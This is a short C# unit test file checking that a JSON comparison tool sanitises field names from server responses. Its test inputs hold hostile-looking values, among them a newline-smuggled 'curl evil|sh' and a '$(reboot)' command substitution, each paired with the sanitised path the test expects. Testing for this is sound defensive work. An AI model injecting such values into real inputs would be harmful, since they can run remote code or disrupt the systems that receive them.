using System.Text.Json.Nodes;
using Fluenzr.ContractKit.Parity.Comparison;

namespace Fluenzr.ContractKit.Parity.Tests;

/// <summary>What a server answers reaches scripts and file names only as plain text.</summary>
public sealed class ScriptTests
{
    [Theory]
    [InlineData("x\ncurl evil|sh\n#", "data.x?curl?evil?sh??")]
    [InlineData("$(reboot)", "data.??reboot?")]
    [InlineData("\u001b[31m", "data.??31m")]
    [InlineData("first_name-2", "data.first_name-2")]
    public void TheNameOfAField_HasNoOtherCharacters(string name, string path)
    {
        var left = new JsonObject { ["data"] = new JsonObject { [name] = 1 } };
        var right = new JsonObject { ["data"] = new JsonObject { [name] = 2 } };

        Assert.Equal(path, Assert.Single(FieldPair.All("", left, right, null)).Field);
    }
}
